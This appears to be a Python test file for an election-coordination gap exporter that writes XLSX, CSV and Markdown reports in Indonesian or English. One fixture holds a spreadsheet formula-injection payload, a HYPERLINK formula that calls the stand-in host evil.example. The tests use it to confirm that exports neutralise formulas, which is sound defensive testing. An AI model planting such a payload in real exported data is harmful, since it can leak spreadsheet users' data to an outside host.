"""The gap writer shared by ``sinergi gaps --output`` and the TUI export: words, names, safety."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from sinergi_graph.gap_export import gap_file_text, sheet_rows, write_gaps
from sinergi_graph.gaps import Gap, Reason
from sinergi_graph.rules import default_rules
from sinergi_graph.tabular import FileFormat

EVIL = '=HYPERLINK("http://evil.example/"&A2,"klik")'
GAPS = [
    Gap("pps-kades", "high", Reason.NO_CONTACT, "PPS-1", EVIL, "33.23.01.2003", ("KADES-1",)),
    Gap(
        "ppk-camat",
        "medium",
        Reason.STALE,
        "PPK-1",
        "PPK Bulu",
        "33.23.01",
        ("CAMAT-1",),
        "2023-10-05",
    ),
]
NAMES = {"KADES-1": "Kepala Desa Campursari", "CAMAT-1": "@Camat Bulu"}


def test_sheet_rows_in_the_asked_language() -> None:
    rules = default_rules()
    ind = sheet_rows(GAPS, NAMES, rules, "id")
    eng = sheet_rows(GAPS, NAMES, rules, "en")
    # Kecamatan-level first, then its desa; the kecamatan and desa by name.
    assert [(r["kecamatan"], r["desa"]) for r in ind] == [("Bulu", ""), ("Bulu", "Campursari")]
    assert [r["severity"] for r in ind] == ["sedang", "tinggi"]
    assert [r["severity"] for r in eng] == ["medium", "high"]
    assert ind[0]["last_contact"] == "5 Oktober 2023" and eng[0]["last_contact"] == "5 October 2023"
    assert ind[1]["counterparts"] == "Kepala Desa Campursari"
    assert ind[1]["rule"] == "PPS belum kontak kepala desa/lurah"


def test_formula_names_stay_text_in_the_xlsx(tmp_path: Path) -> None:
    out = write_gaps(GAPS, FileFormat.XLSX, tmp_path / "g.xlsx", names=NAMES, lang="en")
    ws = load_workbook(out).active
    assert ws["D1"].value == "Body"
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    evil = [c for c in cells if c.value == EVIL]
    camat = [c for c in cells if c.value == "@Camat Bulu"]
    assert evil and camat
    assert all(c.data_type == "s" and c.quotePrefix for c in evil + camat)


def test_csv_keeps_stable_columns_and_guards_formulas() -> None:
    excel = gap_file_text(GAPS, FileFormat.CSV, names=NAMES, excel=True)
    assert excel.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(excel[1:]), delimiter=";"))
    assert rows[0]["subject_name"].startswith("'=")  # OWASP: neutralised
    assert rows[0]["counterpart_names"] == "Kepala Desa Campursari"
    assert rows[1]["desa_name"] == "" and rows[1]["kecamatan_name"] == "Bulu"
    md = gap_file_text(GAPS, FileFormat.MD, names=NAMES, lang="id")
    assert md.startswith("# Celah koordinasi") and "kontak lama" in md
